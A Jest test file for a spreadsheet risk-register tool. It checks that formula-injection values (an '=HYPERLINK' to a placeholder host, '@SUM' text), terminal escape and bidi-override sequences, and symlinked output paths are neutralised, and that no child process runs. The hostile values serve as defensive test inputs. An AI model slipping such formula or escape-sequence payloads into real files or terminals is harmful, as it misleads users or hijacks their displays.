      .exec(dec(parts["xl/styles.xml"]))![1]
      .match(/<xf\b[^>]*?(?:\/>|>[\s\S]*?<\/xf>)/g)!;
    expect(xfs[style]).toMatch(/quotePrefix="(1|true)"/);
  });

  it("meeting (task pane): an update text and a 'by' name starting @ - = are written as text in the register and the Update Log", async () => {
    const host = install({
      sheets: [
        {
          name: "IRIS Risks",
          values: [
            ["Contract risk register"],
            REGISTER_HEADERS,
            risk({ id: "HRC-001", lastReview: "01/06/2022", update: "Inspections increased" }),
          ] as CellValue[][],
        },
      ],
    });
    const grids = await readAllSheets();
    const report = checkWorkbook(grids, {
      settings: defaultSettings(),
      asAt: AS_AT,
      today: AS_AT,
      source: "workbook",
    });
    const logSheet = await openUpdateLog(
      buildUpdateLogTab({ asAt: AS_AT, source: "workbook", version: "test", marking: "OFFICIAL" }),
      writeOwnedTab,
    );
    const facts = report.risks.find((f) => f.id === "HRC-001")!;
    const plan = recordToEdits(
      facts,
      { text: "@SUM(1) -1+1 =2", noChange: false },
      {
        meetingDate: AS_AT,
        by: '=HYPERLINK("http://example.invalid","me")',
        columns: fieldColumnsOf(report),
        settings: defaultSettings(),
        lastLoggedText: null,
      },
    );
    const snap = rowSnapshot(
      facts.record,
      report.sheets.find((s) => s.name === facts.sheet)!,
    )!;
    const result = await recordUpdate({ cells: plan.cells, log: plan.log, logSheet, expected: [snap] });
    expect(result.ok).toBe(true);
    const snapshot = host.snapshot();
    const withFormula: string[] = [];
    for (const s of snapshot.sheets)
      s.values.forEach((row, r) =>
        row.forEach((_v, c) => {
          const cell = host.cell(s.name, `${String.fromCharCode(65 + c)}${r + 1}`);
          if (cell?.formula !== undefined)
            withFormula.push(`${s.name}!${String.fromCharCode(65 + c)}${r + 1}`);
        }),
      );
    expect(withFormula).toEqual([]);
    const log = snapshot.sheets.find((s) => s.name === logSheet)!.values.at(-1)!;
    expect(log).toContain("@SUM(1) -1+1 =2");
    expect(log).toContain('=HYPERLINK("http://example.invalid","me")');
  });

  it("links built from a sheet name holding a quote, # and !: the location quotes it, the target is the file alone", async () => {
    const input = put("links", "Reg #1.xlsm", featureRegister("It&apos;s #1 ! x"));
    const review = path.join(path.dirname(input), "Review.xlsx");
    const r = await run(["check", input, "--as-at", AS_AT, "--out", review]);
    expect([0, 1]).toContain(r.code);
    const parts = unzipSync(fs.readFileSync(review));
    let links = 0;
    for (const [p, b] of Object.entries(parts)) {
      const m = /^xl\/worksheets\/(sheet\d+\.xml)$/.exec(p);
      if (!m) continue;
      const rels = parts[`xl/worksheets/_rels/${m[1]}.rels`];
      for (const [link] of dec(b).matchAll(/<hyperlink [^>]*\/>/g)) {
        links++;
        expect(link).toMatch(/ location="'It''s #1 ! x'!\$?[A-Z]+\$?\d+"/);
        const id = / r:id="([^"]+)"/.exec(link)?.[1];
        expect(id).toBeDefined();
        const rel = new RegExp(`<Relationship [^>]*Id="${id}"[^>]*/>`).exec(dec(rels!))![0];
        expect(rel).toMatch(/ Target="Reg%20%231\.xlsm"/);
      }
    }
    expect(links).toBeGreaterThan(0);
  });

  it("import into a register whose sheet name holds a control character: every part of MERGED well-formed, or a plain refusal", async () => {
    // SPEC "What must never happen": a bad sheet never ends in a half-written workbook; "Not a workbook": a
    // damaged file is refused as damaged, naming the part. `name="Reg&#1;ister"` is not XML 1.0 (no character
    // reference may name U+0001), yet the reader takes it as "Reg\u0001ister"; the import then writes the
    // backup's <sheet name="Backup Reg\u0001ister 2022-10-10"> with a raw U+0001, and Excel refuses MERGED.
    const into = put("control-sheet", "Register.xlsm", featureRegister("Reg&#1;ister"));
    const exportFile = put("control-sheet", "export.csv", PLAIN_EXPORT);
    const out = path.join(path.dirname(into), "Merged.xlsm");
    const r = await run(["import", exportFile, "--into", into, "--out", out, "--as-at", AS_AT]);
    expect(r.err).not.toMatch(/unexpected error/);
    if (r.code === 2) {
      expect(r.err).toContain('"Register.xlsm"');
      expect(fs.existsSync(out)).toBe(false);
    } else {
      for (const [p, b] of Object.entries(unzipSync(fs.readFileSync(out))))
        if (/\.(xml|rels)$/.test(p)) expect([p, wellFormedProblem(b)]).toEqual([p, null]);
    }
  });

  it("defined names: the review's and MERGED's new names are print titles of their own tabs or CRR_OWNED_* names at A1 of a sheet MERGED added, never built from cell text", async () => {
    const into = put("names", "Register.xlsm", featureRegister("It&apos;s =1+1"));
    const exportFile = put("names", "export.csv", PLAIN_EXPORT);
    const out = path.join(path.dirname(into), "Merged.xlsm");
    const review = path.join(path.dirname(into), "Review.xlsx");
    expect((await run(["import", exportFile, "--into", into, "--out", out, "--as-at", AS_AT])).code).toBe(0);
    expect([0, 1]).toContain((await run(["check", into, "--as-at", AS_AT, "--out", review])).code);
    const names = (file: string): string[] =>
      [
        ...dec(unzipSync(fs.readFileSync(file))["xl/workbook.xml"]).matchAll(
          /<definedName [^>]*>[^<]*<\/definedName>/g,
        ),
      ].map((m) => m[0].replace(/&apos;/g, "'"));
    const before = names(into);
    const added = names(out).filter((n) => !before.includes(n));
    const OWN =
      "(Escalation|Exceptions|Risk Summary|Plan Close-Out|Import Log|Risk Review Settings|Update Log)";
    const printTitles = new RegExp(
      `^<definedName name="_xlnm\\.Print_Titles" localSheetId="\\d+">'${OWN}'!\\$\\d+:\\$\\d+</definedName>$`,
    );
    // Changed in README review 28 (fixdoc28a): MERGED now names each sheet it adds CRR_OWNED_<n>, as the pane
    // does, so the sheet is still known as the add-in's own once a row is inserted above its title. That
    // name refers to A1 of a sheet MERGED added (a backup's name holds the register's sheet name, quoted):
    // never cell text, and always one of the new sheets.
    const sheetNames = (file: string): string[] =>
      [
        ...dec(unzipSync(fs.readFileSync(file))["xl/workbook.xml"]).matchAll(/<sheet [^>]*name="([^"]*)"/g),
      ].map((m) => m[1].replace(/&apos;/g, "'"));
    const newSheets = sheetNames(out).filter((n) => !sheetNames(into).includes(n));
    const ownedName = /^<definedName name="CRR_OWNED_\d+">'((?:[^']|'')+)'!\$A\$1<\/definedName>$/;
    expect(added.length).toBeGreaterThan(0);
    for (const n of [...added, ...names(review)]) {
      const owned = ownedName.exec(n);
      if (owned) expect(newSheets).toContain(owned[1].replace(/''/g, "'"));
      else expect(n).toMatch(printTitles);
    }
    expect(added.filter((n) => ownedName.test(n)).length).toBe(newSheets.length);
    expect(names(out).filter((n) => before.includes(n))).toEqual(before);
  });
});

// =========================================================================================================

describe("terminal output never passes a cell's control characters", () => {
  it("ESC, BEL, CR and bidi overrides in cells, a sheet name and a file name: check, import and error lines show them escaped", async () => {
    const evil = "\u001b]0;owned\u0007\u001b[2J\r\u202eexe.txt";
    const xmlEvil = "&#27;]0;owned&#7;_x001B_[2J_x000D_\u202eexe.txt";
    const rows =
      HEADER_ROW +
      `<row r="2">${inline("A2", "R-1")}<c r="B2" t="inlineStr"><is><t>T ${xmlEvil}</t></is></c>${inline("C2", `O${evil}`)}` +
      `${num("D2", 5)}${num("E2", 5)}${num("F2", 25)}${inline("G2", "Open")}<c r="H2" t="inlineStr"><is><t>${xmlEvil}</t></is></c></row>` +
      `<row r="3">${inline("A3", "R-1")}${inline("B3", "dup")}</row>`;
    const sheetName = "Risks&#27;[31m&#7;";
    const bytes = rawXlsx({ sheets: [{ name: "S", rows }] });
    const parts = unzipSync(bytes);
    parts["xl/workbook.xml"] = strToU8(
      dec(parts["xl/workbook.xml"]).replace('name="S"', `name="${sheetName}"`),
    );
    const input = put("terminal", "reg\u001b[31m.xlsx", zipParts(parts));
    for (const format of ["text", "json"]) {
      const r = await run(["check", input, "--as-at", AS_AT, "--format", format]);
      expect([0, 1]).toContain(r.code);
      expect([format, RAW_CONTROL.exec(r.out)?.[0]]).toEqual([format, undefined]);
      expect(r.err).toBe("");
    }
    // A damaged file whose message names the sheet.
    const damaged = rawXlsx({
      sheets: [{ name: "S", rows: '<row r="1"><c r="A1" t="s"><v>7</v></c></row>' }],
      sharedStrings: ["<t>a</t>"],
    });
    const dparts = unzipSync(damaged);
    dparts["xl/workbook.xml"] = strToU8(
      dec(dparts["xl/workbook.xml"]).replace('name="S"', `name="${sheetName}"`),
    );
    const bad = await run(["check", put("terminal", "bad\u0007.xlsx", zipParts(dparts))]);
    expect(bad.code).toBe(2);
    expect(RAW_CONTROL.exec(bad.err)?.[0]).toBeUndefined();
    expect(bad.err).toContain("\\x1b[31m");
    // An import whose export (file name and cells) carries the same.
    const into = put("terminal", "Register.xlsm", featureRegister());
    const exportFile = put(
      "terminal",
      "export\u001b[2J.csv",
      exportCsv([["R-001", `Carriageway ${evil}`, "J Smith", 3, 4, 12, "Open", evil]]),
    );
    const imp = await run([
      "import",
      exportFile,
      "--into",
      into,
      "--out",
      path.join(path.dirname(into), "M.xlsm"),
      "--as-at",
      AS_AT,
    ]);
    expect(imp.code).toBe(0);
    expect(RAW_CONTROL.exec(imp.out)?.[0]).toBeUndefined();
    expect(imp.out).toContain("\\x1b");
  });
});

// =========================================================================================================

describe(".xlsm VBA project", () => {
  it("import --out keeps vbaProject.bin byte for byte (stored bytes and CRC) and nothing is ever executed", async () => {
    const spies = (
      ["spawn", "spawnSync", "exec", "execSync", "execFile", "execFileSync", "fork"] as const
    ).map((f) => jest.spyOn(childProcess, f));
    const into = put("vba", "Register.xlsm", featureRegister());
    const exportFile = put("vba", "export.csv", PLAIN_EXPORT);
    const out = path.join(path.dirname(into), "Merged.xlsm");
    expect([0, 1]).toContain((await run(["check", into, "--as-at", AS_AT])).code);
    const r = await run(["import", exportFile, "--into", into, "--out", out, "--as-at", AS_AT]);
    expect(r.code).toBe(0);
    for (const s of spies) expect(s).not.toHaveBeenCalled();
    const before = storedEntries(fs.readFileSync(into)).get("xl/vbaProject.bin")!;
    const after = storedEntries(fs.readFileSync(out)).get("xl/vbaProject.bin")!;
    expect(after.crc).toBe(before.crc);
    expect(after.method).toBe(before.method);
    expect(Buffer.compare(after.raw, before.raw)).toBe(0);
    const outParts = unzipSync(fs.readFileSync(out));
    expect(
      Buffer.compare(
        Buffer.from(outParts["xl/vbaProject.bin"]),
        Buffer.from(unzipSync(fs.readFileSync(into))["xl/vbaProject.bin"]),
      ),
    ).toBe(0);
    expect(dec(outParts["[Content_Types].xml"])).toMatch(/macroEnabled|vbaProject/);
    expect(dec(outParts["xl/_rels/workbook.xml.rels"])).toContain('Target="vbaProject.bin"');
  });
});

// =========================================================================================================

describe("--out: the input itself, a link to it, a folder, a folder that does not exist", () => {
  /** The folder's files (temporary files of an atomic write included) and the input's bytes and mtime. */
  function state(dir: string, input: string): string {
    const st = fs.statSync(input);
    return JSON.stringify([
      fs.readdirSync(dir).sort(),
      fs.readFileSync(input).toString("base64"),
      st.mtimeMs,
      st.size,
    ]);
  }
  const registerXlsx = (): Uint8Array =>
    rawXlsx({
      sheets: [
        { name: "Risks", rows: HEADER_ROW + registerRow(2, "R-1", "Title", "Owner", 4, 5, "Updated") },
      ],
    });

  it("check --out naming the input by another spelling, a symbolic link or a hard link: exit 2, input untouched", async () => {
    const input = put("out-self", "Register.xlsx", registerXlsx());
    const dir = path.dirname(input);
    fs.mkdirSync(path.join(dir, "sub"));
    fs.symlinkSync(input, path.join(dir, "link.xlsx"));
    fs.symlinkSync("Register.xlsx", path.join(dir, "relative-link.xlsx"));
    fs.linkSync(input, path.join(dir, "hard.xlsx"));
    const before = state(dir, input);
    for (const out of [
      input,
      path.join(dir, "sub", "..", "Register.xlsx"),
      path.join(dir, "link.xlsx"),
      path.join(dir, "relative-link.xlsx"),
      path.join(dir, "hard.xlsx"),
    ]) {
      const r = await run(["check", input, "--as-at", AS_AT, "--out", out]);
      expect([out, r.code]).toEqual([out, 2]);
      expect(r.err).toMatch(/never changes its input/);
      expect(r.err.trimEnd().split("\n")).toHaveLength(1);
      expect(r.out).toBe("");
    }
    expect(state(dir, input)).toBe(before);
  });

  it("import --out that is a symbolic link to --into or to the export: exit 2, inputs untouched", async () => {
    const into = put("out-link-import", "Register.xlsm", featureRegister());
    const dir = path.dirname(into);
    const exportFile = put("out-link-import", "export.csv", PLAIN_EXPORT);
    fs.symlinkSync(into, path.join(dir, "Merged.xlsm"));
    const before = state(dir, into) + state(dir, exportFile);
    const r = await run([
      "import",
      exportFile,
      "--into",
      into,
      "--out",
      path.join(dir, "Merged.xlsm"),
      "--as-at",
      AS_AT,
    ]);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/is an input file; risk-review never changes its inputs/);
    expect(state(dir, into) + state(dir, exportFile)).toBe(before);
  });

  it("--out naming a folder: exit 2, a plain line naming it, no temporary file left", async () => {
    const input = put("out-folder", "Register.xlsx", registerXlsx());
    const dir = path.dirname(input);
    fs.mkdirSync(path.join(dir, "Review.xlsx"));
    const before = state(dir, input);
    const r = await run(["check", input, "--as-at", AS_AT, "--out", path.join(dir, "Review.xlsx")]);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/could not write ".*Review\.xlsx": it is a folder, not a file/);
    expect(r.err).not.toMatch(/unexpected error/);
    expect(state(dir, input)).toBe(before);
    expect(fs.readdirSync(path.join(dir, "Review.xlsx"))).toEqual([]);
  });

  it("--out in a folder that does not exist: exit 2, a plain line naming it, nothing created", async () => {
    const input = put("out-missing", "Register.xlsx", registerXlsx());
    const dir = path.dirname(input);
    const before = state(dir, input);
    const out = path.join(dir, "no", "such", "Review.xlsx");
    const r = await run(["check", input, "--as-at", AS_AT, "--out", out]);
    expect(r.code).toBe(2);
    expect(r.err).toContain(`could not write "${out}": no such file or folder`);
    expect(state(dir, input)).toBe(before);
    expect(fs.existsSync(path.join(dir, "no"))).toBe(false);
  });

  it("(judgement) an input over the 50 MB limit is refused by its size on disk before it is read into memory", async () => {
    // SPEC asks for bounded memory and limits.ts checks maxBytes "before any parsing"; but readInput reads the
    // whole file first, so a 1.9 GB file is held in memory before being refused. Judgement: SPEC does not say
    // when the size is checked. A sparse 60 MB file (no disk blocks) stands in for the big one.
    const file = path.join(tmp, "sparse", "Huge.xlsx");
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.closeSync(fs.openSync(file, "w"));
    fs.truncateSync(file, 60 * MB);
    const readFile = jest.spyOn(fsModule.promises, "readFile");
    try {
      const r = await run(["check", file, "--as-at", AS_AT]);
      expect(r.code).toBe(2);
      expect(r.err).toMatch(/"Huge\.xlsx" is 60\.0 MB; the largest file this can read is 50\.0 MB/);
      expect(readFile.mock.calls.filter((c) => String(c[0]) === file)).toEqual([]);
    } finally {
      fs.rmSync(file, { force: true });
    }
  });
});
